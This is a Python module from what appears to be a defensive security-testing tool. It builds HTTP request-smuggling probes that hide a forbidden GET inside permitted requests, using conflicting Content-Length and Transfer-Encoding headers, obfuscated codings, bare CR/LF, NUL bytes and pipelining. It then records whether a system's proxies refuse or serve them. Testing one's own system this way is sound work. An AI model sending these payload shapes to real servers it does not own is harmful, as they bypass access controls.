"""Request smuggling: messages whose end two parsers see in different places (RFC 9112, 11.2).

Each shape starts as a granted request and hides an ungranted one. It is refused if the whole
message is, or if each request in it is judged for itself. It is served if the app saw any more of
it than the granted request, or if a message that must be refused went through at all.
"""

from collections.abc import Iterator
from dataclasses import dataclass, replace

from watertight.attack.arena import Arena
from watertight.attack.http import Exchange, exchange, request_bytes
from watertight.attack.inside import dial_inside
from watertight.attack.probe import Observation, Outcome, Probe, not_run, refused, served
from watertight.attack.wire import Closed, Wire, dial_unix
from watertight.dataplane.attacks import edge
from watertight.dataplane.attacks.control import all_permitted, judged_inside, permitted
from watertight.dataplane.attacks.make import attack
from watertight.dataplane.attacks.replies import (
    AT_THE_EDGE,
    MALFORMED,
    Nothing,
    app_is_absent,
    refusal,
)
from watertight.dataplane.attacks.requests import TIMEOUT_SECONDS, Request, genuine, past_tls
from watertight.dataplane.attacks.ways import FORBIDDEN, Way, covers, granted, ways
from watertight.model.system import Gateway, Protocol, Route, System

MOST_TRIES = 3
"""Permitted requests whose answers we wait for the end of, where those before them go on."""
ENDLESS = "the permitted request's own answer does not end"


@dataclass(frozen=True, slots=True)
class Shape:
    """One wrong message. ``head`` holds header lines, ``body`` what follows the empty line."""

    head: bytes
    body: bytes
    what: str


def shapes(hidden: bytes) -> dict[str, Shape]:
    """Probe id → the shape; ``hidden`` is the smuggled request."""
    chunked = b"0\r\n\r\n" + hidden
    length = str(len(chunked)).encode()
    return {
        "smuggling.length-and-chunked": Shape(
            b"content-length: " + length + b"\r\ntransfer-encoding: chunked\r\n",
            chunked,
            "Content-Length and Transfer-Encoding together",
        ),
        "smuggling.unknown-coding": Shape(
            b"content-length: " + length + b"\r\ntransfer-encoding: xchunked\r\n",
            chunked,
            "Transfer-Encoding: xchunked beside Content-Length",
        ),
        "smuggling.obfuscated-coding": Shape(
            b"content-length: " + length + b"\r\ntransfer-encoding: \x0bchunked\r\n",
            chunked,
            "Transfer-Encoding with a vertical tab before its value",
        ),
        "smuggling.coding-twice": Shape(
            b"transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n",
            chunked,
            "two Transfer-Encoding headers",
        ),
        "smuggling.two-lengths": Shape(
            b"content-length: 0\r\ncontent-length: " + length + b"\r\n",
            chunked,
            "two different Content-Length headers",
        ),
        "smuggling.signed-length": Shape(
            b"content-length: +" + length + b"\r\n", chunked, "Content-Length with a sign"
        ),
        "smuggling.space-before-colon": Shape(
            b"content-length: " + length + b"\r\ntransfer-encoding : chunked\r\n",
            chunked,
            "a space before the colon of Transfer-Encoding",
        ),
        "smuggling.bare-line-feed": Shape(
            b"x-a: b\ncontent-length: 0\r\n",
            hidden,
            "a header line that ends in a bare LF",
        ),
        "smuggling.bare-carriage-return": Shape(
            b"x-a: b\rcontent-length: " + length + b"\r\ncontent-length: 0\r\n",
            hidden,
            "a bare CR within a header",
        ),
        "smuggling.null-in-header": Shape(
            b"x-a: b\0c\r\ncontent-length: 0\r\n", hidden, "a NUL within a header"
        ),
        "smuggling.pipelined": Shape(
            b"content-length: 0\r\n", hidden, "a second request in the same packet"
        ),
    }


def probes(system: System) -> Iterator[Probe]:
    """Every shape: on every HTTP/1.1 way that has grants, from inside; and at the gateway."""
    for way in ways(system):
        if way.listens.protocol is not Protocol.HTTP or not way.grants or not way.from_service:
            continue
        request = permitted(way)
        if granted(way, "GET", f"/{FORBIDDEN}"):
            continue  # there is nothing on this way that a hidden request could gain
        hidden = f"GET /{FORBIDDEN} HTTP/1.1\r\nhost: {way.authority}\r\n\r\n".encode()
        for identifier, shape in shapes(hidden).items():
            yield attack(
                identifier,
                way.channel,
                f"{shape.what}, hiding GET /{FORBIDDEN} in {request.method} {request.path}",
                _smuggle,
                way,
                request,
                shape,
            )
    if (gateway := system.gateway) is not None and gateway.routes:
        yield from _at_the_gateway(gateway)


def _at_the_gateway(gateway: Gateway) -> Iterator[Probe]:
    route = edge.handiest(gateway.routes)[0]
    if any(covers(r.path, f"/{FORBIDDEN}") for r in gateway.routes):
        return
    hidden = f"GET /{FORBIDDEN} HTTP/1.1\r\nhost: {gateway.hostname}\r\n\r\n".encode()
    for identifier, shape in shapes(hidden).items():
        yield attack(
            identifier,
            edge.CHANNEL,
            f"{shape.what}, hiding GET /{FORBIDDEN} in a request to {route.path}",
            _smuggle_in,
            gateway,
            route,
            shape,
        )


async def _smuggle(arena: Arena, way: Way, request: Request, shape: Shape) -> Observation:
    """Behind the answer to a hidden request there must be an end to the permitted one's."""
    observation = await _smuggle_in_one(arena, way, request, shape)
    for other in all_permitted(way)[1:MOST_TRIES]:
        if ENDLESS not in observation.detail:
            break
        observation = await _smuggle_in_one(arena, way, other, shape)
    return observation


async def _smuggle_in_one(arena: Arena, way: Way, request: Request, shape: Shape) -> Observation:
    """From inside; and, past the caller's own proxy, straight at the door."""
    inside = await arena.inside(way.caller)
    host = arena.address(way.caller, way.callee)
    wire: Wire = await dial_inside(inside, host, way.listens.port, timeout_seconds=TIMEOUT_SECONDS)
    seen = await _judged(arena, way, request, shape, wire)
    if seen.outcome is not Outcome.REFUSED:
        return seen
    wire = await dial_unix(arena.door(way.callee, way.caller))
    try:
        secure = await past_tls(wire, await genuine(arena, way), way.listens.protocol)
    except Closed as end:
        return not_run(f"the right caller is turned away: {end}")
    at_door = await _judged(arena, way, request, shape, secure)
    return replace(at_door, detail=f"{seen.detail}; at the door, {at_door.detail}")


async def _judged(
    arena: Arena, way: Way, request: Request, shape: Shape, wire: Wire
) -> Observation:
    first = f"{request.method} {request.path} HTTP/1.1\r\nhost: {way.authority}\r\n".encode()
    got = await _sent(wire, first, request.method, shape)
    if not got.answers:
        return await judged_inside(arena, way, Nothing(got.detail, closed=got.closed))
    return _judge(got, MALFORMED)


async def _smuggle_in(arena: Arena, gateway: Gateway, route: Route, shape: Shape) -> Observation:
    ready = await edge.permitted(arena, edge.to_route(gateway, route), route)
    if ready is None:
        return edge.no_key(route)
    wire = await edge.dial_tls(gateway)
    lines = [("host", gateway.hostname), *ready.headers]
    first = request_bytes(ready.method, ready.path, lines).removesuffix(b"\r\n")
    got = await _sent(wire, first, ready.method, shape)
    if not got.answers:
        return await edge.judged(arena, route, Nothing(got.detail, closed=got.closed))
    return _judge(got, AT_THE_EDGE)


async def _sent(wire: Wire, first: bytes, method: str, shape: Shape) -> Exchange:
    data = first + shape.head + b"\r\n" + shape.body
    try:
        return await exchange(wire, data, [method, "GET"], timeout_seconds=TIMEOUT_SECONDS)
    finally:
        await wire.close()


def _judge(got: Exchange, wordless: frozenset[int]) -> Observation:
    first, *rest = got.answers
    if words := refusal(first, wordless):
        return refused(f"the whole message: {words}")
    if app_is_absent(first):
        return not_run(f"the app is absent: {first.status}")
    if not first.whole:
        return not_run(f"{ENDLESS}: {first.status}")
    if rest and (words := refusal(rest[0], wordless)):
        return refused(f"the hidden request, judged for itself: {words}")
    if rest:
        return served(f"the hidden request was answered {rest[0].status}")
    return served(f"the message went through: {first.status}, {got.detail}")
